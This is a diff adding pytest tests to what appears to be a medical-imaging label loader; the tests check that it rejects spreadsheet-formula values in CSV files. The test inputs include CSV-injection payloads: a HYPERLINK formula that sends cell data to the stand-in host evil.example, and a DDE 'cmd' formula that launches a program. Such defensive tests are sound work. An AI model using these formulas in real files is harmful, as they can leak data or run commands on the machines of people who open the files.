@@ -198,3 +198,37 @@ def test_manifest_columns_are_documented():
     doc = (Path(__file__).resolve().parents[2] / "xraymunit" / "FORMATS.md").read_text()
     for col in manifest.COLUMN_NAMES:
         assert f"| {col} |" in doc or f"| {col}," in doc or f", {col} |" in doc or f" {col}," in doc, col
+
+
+@pytest.mark.parametrize("column,value", [
+    ("label", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+    ("label", "=cmd|' /c calc'!a0"),
+    ("label", "  @SUM(1+1)"),
+    ("source_dataset", "+1+cmd"),
+    ("view", "\t=1"),
+])
+def test_labels_that_a_spreadsheet_would_run_are_refused(tmp_path, column, value):
+    df = pd.DataFrame({"SOPInstanceUID": ["1.1", "1.2", "1.3"], "label": ["normal", "abnormal", "normal"],
+                       "source_dataset": ["nih"] * 3, "view": ["PA"] * 3})
+    df.loc[1, column] = value
+    path = tmp_path / "labels.csv"
+    df.to_csv(path, index=False)
+    with pytest.raises(LabelsError) as err:
+        manifest.load_labels(path)
+    message = str(err.value)
+    assert f"row 2, column '{column}'" in message and "formula" in message
+    assert value.strip() not in message and "\n" not in message
+
+
+def test_numeric_labels_with_a_sign_are_not_formulas(tmp_path):
+    table = manifest.load_labels(write_csv(tmp_path, "SOPInstanceUID,label\n1.1,-1\n1.2,1\n1.3,+0.5\n"))
+    assert table.index["sop"]["1.1"].label == "-1" and table.index["sop"]["1.3"].label == "+0.5"
+
+
+def test_keys_and_display_of_non_utf8_names():
+    rel = os.fsdecode(b"scans/bad\xff\xfe.dcm")  # how Python names a file whose name is not UTF-8
+    pseudo = Pseudonymiser(b"s" * 32)
+    assert len(pseudo.key("image", rel)) == 16 and pseudo.key("image", rel) != pseudo.key("image", "scans/bad.dcm")
+    assert pseudo.order("split", rel)
+    assert manifest.display_path(rel) == "scans/bad\\xff\\xfe.dcm"
+    assert manifest.display_path("scans/ok é.dcm") == "scans/ok é.dcm"
